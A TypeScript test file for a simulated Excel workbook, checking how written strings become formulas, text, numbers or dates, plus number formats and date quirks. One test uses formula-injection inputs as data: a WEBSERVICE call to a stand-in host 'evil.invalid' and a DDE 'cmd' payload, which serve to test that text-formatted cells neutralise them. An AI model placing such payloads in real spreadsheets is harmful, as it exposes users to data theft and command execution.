import { spreadsheetTexts } from '../../fixtures/spreadsheet-text';
import { createSimulatedWorkbook, SimError } from '../../../src/preview/excel-sim';

async function write(wb: ReturnType<typeof createSimulatedWorkbook>, address: string, values: unknown, format?: string): Promise<void> {
  await wb.run(async (context) => {
    const range = context.workbook.worksheets.getItem('Sheet1').getRange(address);
    if (format !== undefined) range.numberFormat = format; // scalar: applied to every cell
    range.values = values;
    await context.sync();
  });
}

describe('values written into cells', () => {
  it('formula-like strings become formulas in General cells (valueTypes not String)', async () => {
    const wb = createSimulatedWorkbook();
    await write(wb, 'A1:A4', [['=1+1'], ['=WEBSERVICE("http://evil.invalid/")'], ["+cmd|' /C calc'!A0"], ['-2+3']]);
    expect(wb.formulas('Sheet1', 'A1:A4')).toEqual([['=1+1'], ['=WEBSERVICE("http://evil.invalid/")'], ["=+cmd|' /C calc'!A0"], ['=-2+3']]);
    expect(wb.values('Sheet1', 'A1:A4')).toEqual([[2], ['#NAME?'], ['#NAME?'], [1]]);
    expect(wb.valueTypes('Sheet1', 'A1:A4')).toEqual([['Double'], ['Error'], ['Error'], ['Double']]);
  });

  it('the same strings stay text when the text format was set before the value', async () => {
    const wb = createSimulatedWorkbook();
    await write(wb, 'A1:A2', [['=1+1'], ['-1500']], '@');
    expect(wb.values('Sheet1', 'A1:A2')).toEqual([['=1+1'], ['-1500']]);
    expect(wb.valueTypes('Sheet1', 'A1:A2')).toEqual([['String'], ['String']]);
  });

  it('a text format set after the value does not undo the formula', async () => {
    const wb = createSimulatedWorkbook();
    await wb.run(async (context) => {
      const range = context.workbook.worksheets.getItem('Sheet1').getRange('A1');
      range.values = [['=1+1']];
      range.numberFormat = [['@']];
      await context.sync();
    });
    expect(wb.formulas('Sheet1', 'A1')).toEqual([['=1+1']]);
    expect(wb.valueTypes('Sheet1', 'A1')).toEqual([['Double']]);
  });

  it('-1500 into General is a Double; into text it is a String', async () => {
    const wb = createSimulatedWorkbook();
    await write(wb, 'A1', [['-1500']]);
    await write(wb, 'B1', [['-1500']], '@');
    expect(wb.values('Sheet1', 'A1:B1')).toEqual([[-1500, '-1500']]);
    expect(wb.valueTypes('Sheet1', 'A1:B1')).toEqual([['Double', 'String']]);
  });

  it('General cells convert numbers, booleans, percentages, dates; a leading apostrophe marks text', async () => {
    const wb = createSimulatedWorkbook({ currentYear: 2025 });
    await write(wb, 'A1:H1', [['0012345', 'TRUE', '50%', '2024-01-05', '1E5', "'=1+1", '#N/A', '(123)']]);
    expect(wb.values('Sheet1', 'A1:H1')).toEqual([[12345, true, 0.5, 45296, 100000, '=1+1', '#N/A', -123]]);
    expect(wb.valueTypes('Sheet1', 'A1:H1')).toEqual([['Double', 'Boolean', 'Double', 'Double', 'Double', 'String', 'Error', 'Double']]);
    expect(wb.numberFormats('Sheet1', 'C1:D1')).toEqual([['0%', 'm/d/yyyy']]);
    expect(wb.text('Sheet1', 'C1:D1')).toEqual([['50%', '1/5/2024']]);
    // office-js #6687: formulas drops the quote prefix, so a round trip through formulas revives the formula
    expect(wb.formulas('Sheet1', 'F1')).toEqual([['=1+1']]);
  });

  it('every text of the corpus survives a text-formatted cell exactly', async () => {
    const corpus = spreadsheetTexts();
    expect(corpus.length).toBeGreaterThan(10);
    const wb = createSimulatedWorkbook();
    const address = `A1:A${corpus.length}`;
    await write(
      wb,
      address,
      corpus.map((c) => [c.text]),
      '@',
    );
    const values = wb.values('Sheet1', address);
    const types = wb.valueTypes('Sheet1', address);
    corpus.forEach((entry, i) => {
      expect(values[i]?.[0]).toBe(entry.text);
      // Excel reads an empty string back as an empty cell: the only entry that is not a String.
      expect(types[i]?.[0]).toBe(entry.text === '' ? 'Empty' : 'String');
    });
  });

  it('mismatched dimensions fail with InvalidArgument; a scalar fills the range', async () => {
    const wb = createSimulatedWorkbook();
    for (const property of ['values', 'formulas', 'numberFormat'] as const) {
      await expect(
        wb.run(async (context) => {
          const range = context.workbook.worksheets.getItem('Sheet1').getRange('A1:B2');
          range[property] = [['x', 'y', 'z']];
          await context.sync();
        }),
      ).rejects.toMatchObject({
        code: 'InvalidArgument',
        message: "The number of rows or columns in the input array doesn't match the size or dimensions of the range.",
      });
    }
    await write(wb, 'A1:B2', 7);
    expect(wb.values('Sheet1', 'A1:B2')).toEqual([
      [7, 7],
      [7, 7],
    ]);
  });

  it('keeps number formats per cell and renders text through them', async () => {
    const wb = createSimulatedWorkbook();
    await wb.run(async (context) => {
      const range = context.workbook.worksheets.getItem('Sheet1').getRange('A1:C1');
      range.numberFormat = [['#,##0.00', '0%', '@']];
      range.values = [[1234.5, 0.25, 42]];
      const loaded = range.load('numberFormat, text');
      await context.sync();
      expect(loaded.numberFormat).toEqual([['#,##0.00', '0%', '@']]);
      expect(loaded.text).toEqual([['1,234.50', '25%', '42']]);
    });
  });

  it('dates: serial numbers stay numbers with a date format', async () => {
    const wb = createSimulatedWorkbook();
    const serial = (Date.UTC(2024, 0, 31) - Date.UTC(1899, 11, 30)) / 86_400_000;
    await wb.run(async (context) => {
      const range = context.workbook.worksheets.getItem('Sheet1').getRange('A1');
      range.numberFormat = [['yyyy-mm-dd']];
      range.values = [[serial]];
      const loaded = range.load('values, text, valueTypes');
      await context.sync();
      expect(loaded.values).toEqual([[45322]]);
      expect(loaded.valueTypes).toEqual([['Double']]);
      expect(loaded.text).toEqual([['2024-01-31']]);
    });
  });

  it('null entries leave cells unchanged; text over 32,767 characters is refused', async () => {
    const wb = createSimulatedWorkbook();
    await write(wb, 'A1:B1', [['a', 'b']]);
    await write(wb, 'A1:B1', [[null, 'c']]);
    expect(wb.values('Sheet1', 'A1:B1')).toEqual([['a', 'c']]);
    await expect(write(wb, 'A1', [['x'.repeat(32_768)]])).rejects.toBeInstanceOf(SimError);
  });
});

describe('currency literals in number formats (#26)', () => {
  it('`[$EUR]` shows its text as Excel does; the cell stays a number; a locale after `-` is not shown', async () => {
    const wb = createSimulatedWorkbook();
    await write(wb, 'A1:A3', [[1234.5], [-0.5], [0]], '#,##0.00 [$EUR]');
    await write(wb, 'B1:B2', [[1234.5], [12]], '#,##0.00 [$CHF]');
    await write(wb, 'C1', [[12]], '[$€-407] #,##0.00');
    expect(wb.text('Sheet1', 'A1:A3')).toEqual([['1,234.50 EUR'], ['-0.50 EUR'], ['0.00 EUR']]);
    expect(wb.text('Sheet1', 'B1:B2')).toEqual([['1,234.50 CHF'], ['12.00 CHF']]);
    expect(wb.text('Sheet1', 'C1')).toEqual([['€ 12.00']]);
    expect(wb.valueTypes('Sheet1', 'A1:B1')).toEqual([['Double', 'Double']]);
    expect(wb.numberFormats('Sheet1', 'A1')).toEqual([['#,##0.00 [$EUR]']]);
  });
});

describe('typed dates of early 1900', () => {
  it("typed dates of early 1900 as Excel's calendar counts them (its 29 February 1900 included)", async () => {
    const wb = createSimulatedWorkbook();
    await write(wb, 'A1:D1', [['1/1/1900', '2/28/1900', '2/29/1900', '3/1/1900']]);
    expect(wb.values('Sheet1', 'A1:D1')).toEqual([[1, 59, 60, 61]]);
    expect(wb.text('Sheet1', 'C1')).toEqual([['2/29/1900']]);
  });
});
